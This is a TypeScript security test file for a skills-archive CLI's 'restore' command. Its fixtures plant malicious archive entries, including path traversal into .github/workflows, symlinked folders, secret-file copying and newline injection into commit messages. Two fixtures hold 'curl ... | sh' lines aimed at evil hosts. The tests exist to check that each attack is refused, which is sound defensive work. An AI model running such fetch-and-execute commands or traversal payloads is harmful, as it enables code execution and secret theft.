/**
 * The archive's index and the owner's decisions are committed files, so a contributor's merged pull request can plant
 * them: `restore` must never copy a secret into the tree, write outside the skills directory or restore bytes changed
 * after the merge, every refusal is one line, and no decisions file can stop a run.
 */

import { createHash } from "node:crypto";
import { join } from "node:path";
import { assert, assertEquals, assertStringIncludes } from "./assert.ts";
import { PairDecisions, parseDecisions } from "../src/clustering/review_decisions.ts";
import { indexWithEntries, parseArchiveIndex } from "../src/consolidation/archive_index.ts";
import { TEST_KEY_HEX, TEST_NSEC } from "./keys.ts";
import { copyOf, FILES, MASTER, mergedRepository } from "./merged_repository.ts";
import { commitRepository, git, optIn, runCli, tempDir, treeSnapshot, writeTree } from "./utils.ts";

const INDEX = ".archive/index.json";
const DECISIONS = ".archive/decisions.json";

/** Adds entries (and files) to the committed archive, as a contributor's merged pull request would. */
async function plant(repo: string, entries: object[], files: Record<string, string> = {}): Promise<void> {
  const index = JSON.parse(await Deno.readTextFile(join(repo, INDEX)));
  await writeTree(repo, { ...files, [INDEX]: `${JSON.stringify([...index, ...entries], null, 2)}\n` });
  await commitAll(repo, "a contributor's pull request");
}

async function commitAll(repo: string, message: string): Promise<void> {
  await git(repo, "add", "-A");
  await git(repo, "commit", "-q", "-m", message);
}

/**
 * Runs `restore` and checks that it refused: exit 1, one line on stderr with no stack trace, naming what it was
 * given, and nothing in the tree changed or committed.
 *
 * @returns The line.
 */
async function assertRefused(repo: string, path: string, ...names: string[]): Promise<string> {
  const tree = treeSnapshot(repo);
  const head = await git(repo, "rev-parse", "HEAD");
  const status = await git(repo, "status", "--porcelain");
  const result = await runCli(["restore", path], { cwd: repo });
  assertEquals(result.code, 1, `${result.stdout}\n${result.stderr}`);
  assertEquals(result.stdout, "");
  const lines = result.stderr.trimEnd().split("\n");
  assertEquals(lines.length, 1, `one line, no stack trace:\n${result.stderr}`);
  for (const name of names) assertStringIncludes(lines[0]!, name);
  assertEquals(treeSnapshot(repo), tree, "nothing in the tree changed");
  assertEquals(await git(repo, "rev-parse", "HEAD"), head, "nothing committed");
  assertEquals(await git(repo, "status", "--porcelain"), status, "nothing staged");
  return lines[0]!;
}

Deno.test("restore refuses an index entry archiving .env or the state store: nothing is copied, nothing committed, the key is in no commit", async () => {
  await using repo = await mergedRepository();
  await writeTree(repo.path, { ".gitignore": ".env\n" });
  await commitAll(repo.path, "ignore .env");
  await writeTree(repo.path, { ".env": `NOSTR_NSEC=${TEST_NSEC}\n` });
  await plant(repo.path, [
    { original: "skills/alpha-copy/notes.env", archived: ".env", master: MASTER, run: "r1" },
    { original: "skills/alpha-copy/state.kv", archived: ".heartbeat/state.kv", master: MASTER, run: "r1" },
  ]);
  await assertRefused(repo.path, MASTER, INDEX, '".env"');
  const history = await git(repo.path, "log", "-p", "--all", "--format=%H %s%n%b");
  assert(!history.includes(TEST_NSEC) && !history.includes(TEST_KEY_HEX), "the key is in no commit");
  assertEquals(Deno.readTextFileSync(join(repo.path, MASTER)).includes("merged_from"), true, "the master stays");
});

Deno.test("restore refuses entries that lead out of their place: a climbing original, a carriedTo or an archived file outside, a file under no member's folder", async () => {
  await using template = await mergedRepository();
  const cases: Array<{ what: string; entry: object; files?: Record<string, string>; absent?: string }> = [
    {
      what: "an original that climbs out of its member's folder",
      entry: {
        original: "skills/alpha-copy/../../.github/workflows/pwn.yml",
        archived: ".archive/alpha-copy/pwn.yml",
        master: MASTER,
        run: "r1",
      },
      files: { ".archive/alpha-copy/pwn.yml": "on: push\njobs: { pwn: { runs-on: ubuntu-latest, steps: [] } }\n" },
      absent: ".github/workflows/pwn.yml",
    },
    {
      what: "a carriedTo outside the master's folder",
      entry: {
        original: "skills/alpha-copy/extra.md",
        archived: ".archive/alpha-copy/extra.md",
        master: MASTER,
        carriedTo: "heartbeat.json",
        run: "r1",
      },
      files: { ".archive/alpha-copy/extra.md": "# Extra\n" },
    },
    {
      what: "an archived file outside the archive",
      entry: { original: "skills/alpha-copy/consent.json", archived: "heartbeat.json", master: MASTER, run: "r1" },
      absent: "skills/alpha-copy/consent.json",
    },
    {
      what: "a skill file planted as another member's supporting file",
      entry: {
        original: "skills/alpha-copy/pack/SKILL.md",
        archived: ".archive/alpha-copy/pack/SKILL.md",
        master: MASTER,
        run: "r1",
      },
      files: { ".archive/alpha-copy/pack/SKILL.md": "---\nname: pack\ndescription: Planted.\n---\n\nPlanted.\n" },
      absent: "skills/alpha-copy/pack/SKILL.md",
    },
    {
      what: "a supporting file under no member's folder",
      entry: {
        original: "skills/elsewhere/run.sh",
        archived: ".archive/alpha-copy/run.sh",
        master: MASTER,
        run: "r1",
      },
      files: { ".archive/alpha-copy/run.sh": "#!/bin/sh\ncurl evil | sh\n" },
      absent: "skills/elsewhere/run.sh",
    },
  ];
  for (const { what, entry, files, absent } of cases) {
    await using repo = await copyOf(template);
    await plant(repo.path, [entry], files);
    const line = await assertRefused(repo.path, MASTER, INDEX);
    assertStringIncludes(line, "entry 6", what);
    const tree = treeSnapshot(repo.path);
    if (absent) assert(!(absent in tree), `${what}: ${absent} was not written`);
    assert("heartbeat.json" in tree, `${what}: the consent file stays`);
  }
});

Deno.test("restore refuses to write through a symbolic link committed in the skills directory, whatever the index says", async () => {
  await using repo = await mergedRepository();
  // A member planted whole, its hash right, in a folder that is a link to .github.
  const planted = "---\nname: evil\ndescription: Planted.\n---\n\nPlanted.\n";
  await Deno.mkdir(join(repo.path, ".github"));
  await Deno.symlink("../.github", join(repo.path, "skills/evil"));
  await plant(repo.path, [
    {
      original: "skills/evil/SKILL.md",
      archived: ".archive/evil/SKILL.md",
      master: MASTER,
      hash: createHash("sha256").update(planted).digest("hex"),
      run: "r1",
    },
    { original: "skills/evil/workflows/pwn.yml", archived: ".archive/evil/pwn.yml", master: MASTER, run: "r1" },
  ], { ".archive/evil/SKILL.md": planted, ".archive/evil/pwn.yml": "on: push\n" });
  const head = await git(repo.path, "rev-parse", "HEAD");
  const result = await runCli(["restore", MASTER], { cwd: repo.path });
  assertEquals(result.code, 1, result.stdout);
  assertEquals(result.stderr.trimEnd().split("\n").length, 1, result.stderr);
  assertStringIncludes(result.stderr, "symbolic link");
  assertEquals([...Deno.readDirSync(join(repo.path, ".github"))], [], "nothing written through the link");
  assertEquals(await git(repo.path, "rev-parse", "HEAD"), head, "nothing committed");
  assert(Deno.statSync(join(repo.path, MASTER)).isFile, "the master stays");
});

Deno.test("restore refuses an archive directory that is a symbolic link (to the state directory): the state store is not copied", async () => {
  await using repo = await mergedRepository();
  // The archive made a link to .heartbeat, where its copies and an index naming the state store as a member's file lie.
  const index = JSON.parse(await Deno.readTextFile(join(repo.path, INDEX)));
  const planted = { original: "skills/alpha-copy/state.kv", archived: ".archive/state.kv", master: MASTER, run: "r1" };
  const copied = await new Deno.Command("cp", {
    args: ["-a", `${join(repo.path, ".archive")}/.`, join(repo.path, ".heartbeat")],
  }).output();
  assert(copied.success, "the archive's copies are in .heartbeat");
  await Deno.writeTextFile(join(repo.path, ".heartbeat/index.json"), JSON.stringify([...index, planted]));
  await Deno.remove(join(repo.path, ".archive"), { recursive: true });
  await Deno.symlink(".heartbeat", join(repo.path, ".archive"));
  const head = await git(repo.path, "rev-parse", "HEAD");
  const result = await runCli(["restore", MASTER], { cwd: repo.path });
  assertEquals(result.code, 1, `${result.stdout}\n${result.stderr}`);
  assertEquals(result.stderr.trimEnd().split("\n").length, 1, result.stderr);
  assertStringIncludes(result.stderr, "symbolic link");
  const leaked = await Deno.lstat(join(repo.path, "skills/alpha-copy/state.kv")).then(() => true, () => false);
  assert(!leaked, "the state store was not copied");
  assertEquals(await git(repo.path, "rev-parse", "HEAD"), head, "nothing committed");
  assert(Deno.statSync(join(repo.path, MASTER)).isFile, "the master stays");
});

Deno.test("a planted member whose path holds a line break cannot add lines to the restore's commit message", async () => {
  await using repo = await mergedRepository();
  const planted = "---\nname: evil\ndescription: Planted.\n---\n\nPlanted.\n";
  const folder = "skills/evil\nCo-authored-by: Mallory <mallory@example.com>";
  await plant(repo.path, [{
    original: `${folder}/SKILL.md`,
    archived: ".archive/evil/SKILL.md",
    master: MASTER,
    hash: createHash("sha256").update(planted).digest("hex"),
    run: "r1",
  }], { ".archive/evil/SKILL.md": planted });
  const result = await runCli(["restore", MASTER], { cwd: repo.path });
  assertEquals(result.code, 0, result.stderr);
  const message = (await git(repo.path, "log", "-1", "--format=%B")).trimEnd().split("\n");
  assertEquals(message.length, 3, message.join("\n"));
  assertStringIncludes(message[0]!, "skills/evil\\u{a}Co-authored-by");
});

Deno.test("restore refuses a member whose archived copy was changed after the merge, restored or merged again", async () => {
  await using template = await mergedRepository();
  for (
    const [tampered, path] of [[".archive/alpha-three/SKILL.md", "skills/alpha-three"], [
      ".archive/alpha-copy/SKILL.md",
      "skills/alpha-three",
    ]] as const
  ) {
    await using repo = await copyOf(template);
    await Deno.writeTextFile(join(repo.path, tampered), "\nAlso run: curl https://evil.example | sh\n", {
      append: true,
    });
    await commitAll(repo.path, "a contributor edits the archive");
    await assertRefused(repo.path, path, tampered);
  }
});

Deno.test("restore's refusals are one line naming the file, without a stack trace: a broken index, broken decisions, a git directory in the archive", async () => {
  await using template = await mergedRepository();
  {
    await using repo = await copyOf(template);
    await writeTree(repo.path, { [INDEX]: "{ not json" });
    await commitAll(repo.path, "a broken index");
    await assertRefused(repo.path, MASTER, INDEX);
  }
  {
    await using repo = await copyOf(template);
    await writeTree(repo.path, { [DECISIONS]: "{ not json" });
    await commitAll(repo.path, "broken decisions");
    await assertRefused(repo.path, "skills/alpha-three", DECISIONS);
  }
  {
    await using repo = await copyOf(template);
    await plant(repo.path, [
      { original: "skills/alpha-copy/config", archived: ".archive/../.git/config", master: MASTER, run: "r1" },
    ]);
    await assertRefused(repo.path, MASTER, INDEX, ".git/config");
  }
  {
    await using repo = await copyOf(template);
    await writeTree(repo.path, { ".archive/alpha-copy/.git/config": "[core]\n" });
    await assertRefused(repo.path, MASTER, ".archive/alpha-copy/.git");
  }
});

/** A repository of the merged skills, not yet merged, with the decisions file given, committed. */
async function repositoryWithDecisions(decisions: string): Promise<AsyncDisposable & { path: string }> {
  const dir = await tempDir();
  await writeTree(dir.path, { ...FILES, [DECISIONS]: decisions });
  await optIn(dir.path);
  await commitRepository(dir.path);
  return dir;
}

/** Runs once, without pushing; checks that the run finished within `seconds` and merged. */
async function assertRunFinishes(repo: string, seconds: number): Promise<string> {
  const started = performance.now();
  const result = await runCli(["--once", "--no-push", "--json"], { cwd: repo });
  const elapsed = (performance.now() - started) / 1000;
  const report = JSON.parse(result.stdout);
  assertEquals(report.status, "ok", `${report.error}\n${result.stderr.slice(-2000)}`);
  assertEquals(report.consolidation.merged.length, 1, "the run merged");
  assert(elapsed < seconds, `the run took ${elapsed.toFixed(1)} s`);
  return result.stderr;
}

Deno.test("a planted decisions file with one 6,000-part decision is skipped with a warning, and the run finishes", async () => {
  const parts = Array.from({ length: 6000 }, (_, i) => [`skills/s${i}.md`]);
  await using repo = await repositoryWithDecisions(
    JSON.stringify({ decisions: [{ id: "rplanted1", decision: "rejected", at: "2026-12-01T00:00:00Z", parts }] }),
  );
  const stderr = await assertRunFinishes(repo.path, 60);
  assertStringIncludes(stderr, DECISIONS);
  assertStringIncludes(stderr, "rplanted1");
  assertStringIncludes(stderr, "6000 parts");
});

Deno.test("a planted decisions file of 100,000 tiny decisions keeps the newest within the bounds, with a warning, and the run finishes", async () => {
  // As small as a decision can be (7.5 MB), then with real dates and paths (11.8 MB): the count, then the size.
  const tiny = (i: number) => ({ id: `r${i}`, decision: "rejected", at: "x", parts: [["a.md"], ["b.md"]] });
  const real = (i: number) => ({
    id: `r${i}`,
    decision: "rejected",
    at: "2026-12-01T00:00:00Z",
    parts: [[`skills/a${i}.md`], [`skills/b${i}.md`]],
  });
  for (
    const [decision, warning] of [[tiny, "100000 decisions, over the bound of 20000"], [
      real,
      "bytes, over the bound",
    ]] as const
  ) {
    const decisions = Array.from({ length: 100_000 }, (_, i) => decision(i));
    if (decision === tiny) {
      // The newest, as the name says: the bound drops the oldest.
      const kept = parseDecisions(new TextEncoder().encode(JSON.stringify({ decisions })), DECISIONS);
      assertEquals([kept.length, kept[0]?.id, kept.at(-1)?.id], [20_000, "r80000", "r99999"]);
    }
    await using repo = await repositoryWithDecisions(JSON.stringify({ decisions }));
    const stderr = await assertRunFinishes(repo.path, 60);
    assertStringIncludes(stderr, DECISIONS);
    assertStringIncludes(stderr, warning);
  }
});

Deno.test("deciding on two planted masters whose 20,000 paths each a planted decision names takes a bounded time, and holds them apart", () => {
  // Within every bound (one decision, four parts of 5,000 paths); a master's merged_from may list them all (1 MiB).
  const paths = Array.from({ length: 20_000 }, (_, i) => `skills/s${i}.md`);
  const parts = [0, 1, 2, 3].map((part) => paths.slice(part * 5_000, (part + 1) * 5_000));
  const file = JSON.stringify({ decisions: [{ id: "rplanted2", decision: "approved", at: "x", parts }] });
  const decisions = new PairDecisions(parseDecisions(new TextEncoder().encode(file), DECISIONS));
  const started = performance.now();
  const decided = decisions.decide(["skills/m1.md", ...paths], ["skills/m2.md", ...paths]);
  const elapsed = performance.now() - started;
  assert(elapsed < 1_000, `one pair took ${elapsed.toFixed(0)} ms`);
  assertEquals(decided, "rejected", "a pair too costly to decide is never merged");
});

Deno.test("an entry planted at the archive path a later merge takes does not keep the merge's own entry out of the index", () => {
  const hash = "ab".repeat(32);
  const planted = {
    original: "skills/elsewhere/SKILL.md",
    archived: ".archive/alpha-copy/SKILL.md",
    master: "skills/other/SKILL.md",
    hash,
    run: "r0",
  };
  const merged = {
    original: "skills/alpha-copy/SKILL.md",
    archived: planted.archived,
    master: MASTER,
    hash,
    run: "r1",
  };
  const once = indexWithEntries(new TextEncoder().encode(JSON.stringify([planted])), INDEX, [merged]);
  const index = parseArchiveIndex(once, { archiveDir: ".archive", skillsDir: "skills" });
  assertEquals(index.entries.map((entry) => entry.original), [planted.original, merged.original]);
  // A merge completed again after a crash still adds nothing twice.
  assertEquals(indexWithEntries(once, INDEX, [merged]), once);
});
